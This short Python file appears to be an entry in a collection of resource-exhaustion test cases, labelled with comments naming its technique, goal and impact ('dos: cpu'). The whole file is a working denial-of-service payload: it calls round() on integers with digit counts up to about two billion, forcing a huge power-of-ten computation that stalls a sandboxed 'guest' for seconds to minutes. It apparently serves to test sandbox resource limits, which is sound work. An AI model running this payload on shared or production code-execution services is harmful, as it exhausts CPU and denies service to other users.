# technique: round() of a small number to a hundred million digits before the point: the power of ten is computed first
# source: own
# goal: seconds to minutes in which nothing stops the guest
# impact: dos
# dos: cpu
for digits in 50_000_000, 100_000_000, 300_000_000, (1 << 31) - 1:
    for number in 1, 12345678901234567890123:
        try:
            round(number, -digits)
        except MemoryError:
            pass
